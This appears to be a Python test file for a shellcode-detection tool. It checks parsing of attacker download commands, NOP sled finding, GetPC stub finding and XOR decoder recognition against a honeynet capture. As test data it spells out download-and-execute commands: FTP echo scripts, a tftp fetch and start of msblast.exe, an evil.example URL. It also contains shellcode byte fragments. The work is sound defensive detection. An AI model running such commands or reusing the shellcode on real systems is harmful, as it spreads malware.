"""Offers from commands and URLs, and the static parts of payload analysis (sleds, GetPC stubs,
decoder loops) on their own."""

from __future__ import annotations

from pathlib import Path

import shellcode_vectors as v
from capture_helpers import tcp_payloads
from stormwatch.detect.shellcode import Offer, ftp_script_offers, offer_from_url, offers_from_command
from stormwatch.detect.shellcode.decoders import static_decode
from stormwatch.detect.shellcode.locate import find_getpc, find_sleds

CAPTURE = "pcap/exploits/honeynet-fc2010-attack-trace-ms04-011.pcap"


def test_bind_shell_session_of_the_challenge(shared_data: Path) -> None:
    """The commands the attacker typed into the 1957 bind shell give the FTP offer of ssms.exe on
    port 8884 (the host in the script is 0.0.0.0, as sent; the reconstruction across connections
    finds the real server)."""
    text = tcp_payloads(shared_data / CAPTURE)[("98.114.205.102", 1924, "192.150.11.111", 1957)].decode("latin-1")
    assert offers_from_command(text) == [Offer("ftp", "0.0.0.0", 8884, "ssms.exe", "ftp://0.0.0.0:8884/ssms.exe",
                                               "ssms.exe")]


def test_echo_script_variants() -> None:
    cmd = ("cmd.exe /c echo open 1.2.3.4 21>>x.txt && echo user a b>>x.txt && echo bin>>x.txt && "
           "echo get abc.exe c:\\windows\\run.exe>>x.txt && echo quit>>x.txt && ftp -v -i -n -s:x.txt")
    assert offers_from_command(cmd) == [Offer("ftp", "1.2.3.4", 21, "abc.exe", "ftp://1.2.3.4:21/abc.exe", "run.exe")]
    # ">" starts the file again: only the second open counts
    cmd2 = "echo open 9.9.9.9 1>o&echo open 5.6.7.8 2121>o&echo get z.exe>>o&ftp -s:o"
    assert [o.host for o in offers_from_command(cmd2)] == ["5.6.7.8"]
    # a script never handed to ftp is no offer
    assert offers_from_command("echo open 1.2.3.4 21>o&echo get a.exe>>o") == []


def test_ftp_script_written_as_a_file() -> None:
    files = {"C:\\t\\s.txt": b"open 7.7.7.7 4444\r\nuser u p\r\nget w.exe\r\nbye\r\n"}
    assert offers_from_command("ftp -n -s:C:\\t\\s.txt", files)[0].endpoint == "7.7.7.7:4444:ftp"
    assert ftp_script_offers("get x.exe") == []  # no open: nowhere to get it from


def test_tftp_and_urls() -> None:
    got = offers_from_command("tftp -i 10.0.0.7 GET msblast.exe & start msblast.exe")
    assert got == [Offer("tftp", "10.0.0.7", 69, "msblast.exe", "tftp://10.0.0.7/msblast.exe", "msblast.exe")]
    assert offer_from_url("http://evil.example/a/b.exe?x=1") == Offer(
        "http", "evil.example", 80, "/a/b.exe?x=1", "http://evil.example/a/b.exe?x=1", "b.exe")
    assert offer_from_url("ftp://u:p@h:2121/f.exe").port == 2121  # type: ignore[union-attr]
    assert offer_from_url("gopher://h/x") is None
    assert offer_from_url("http://h:99999/x") is None  # port out of range
    assert offer_from_url("http:///nohost") is None


def test_sleds() -> None:
    data = b"AB" + b"\x90" * 20 + b"\xcc" + bytes([0x41, 0x4B, 0x97, 0x99, 0xF8]) * 5 + b"\xcc"
    sleds = find_sleds(data)
    # "A" and "B" are inc ecx / inc edx: they extend the nop run; longest first
    assert [(s.offset, s.length, s.pure) for s in sleds] == [(23, 25, False), (0, 22, False)]
    assert find_sleds(b"\x90" * 30)[0].pure
    assert find_sleds(b"\x90" * 15) == []
    assert find_sleds(b"\x44" * 40) == []  # inc esp moves the stack: not a sled byte


def test_getpc_techniques() -> None:
    assert [g.technique for g in find_getpc(b"\x90\xe8\x00\x00\x00\x00\x5d")] == ["call-pop"]
    assert [(g.technique, g.pop, g.value) for g in find_getpc(b"\xe8\xff\xff\xff\xff\xc0\x5e")] == [("call4-pop", 6, 5)]
    assert [(g.technique, g.value) for g in find_getpc(b"\xd9\xee\xd9\x74\x24\xf4\x5b")] == [("fnstenv", 0)]
    jcp = b"\xeb\x03" + b"\x5e\x90\x90" + b"\xe8\xf8\xff\xff\xff"  # jmp +3; pop esi; ...; call back to the pop
    assert [(g.technique, g.start, g.value) for g in find_getpc(jcp)] == [("jmp-call-pop", 0, 10)]
    assert find_getpc(b"\xe8\x10\x00\x00\x00" + bytes(32)) == []


def test_static_decoders_without_emulation() -> None:
    body = v.bind_shell(1)
    got = static_decode(v.xor8_callpop(body, 0x37), 0)
    assert got is not None
    assert (got.decoder, got.key, got.decoded_offset, got.decoded_size) == ("xor8", "37", 21, len(body))
    assert got.data[21:] == body
    got32 = static_decode(v.xor32_fnstenv(body, b"\xde\xad\xbe\xef"), 0)
    assert got32 is not None and (got32.decoder, got32.key) == ("xor32", "deadbeef")
    assert got32.data[23:23 + len(body)] == body
    add = static_decode(v.xor32_additive(body, 0xCAFEBABE), 0)
    assert add is not None and add.decoder == "xor32-additive" and add.data[27:27 + len(body)] == body
    assert static_decode(v.SMC_LOOP, 0) is None  # a loop that never ends is no decoder
    assert static_decode(b"\x90" * 10, 0) is None
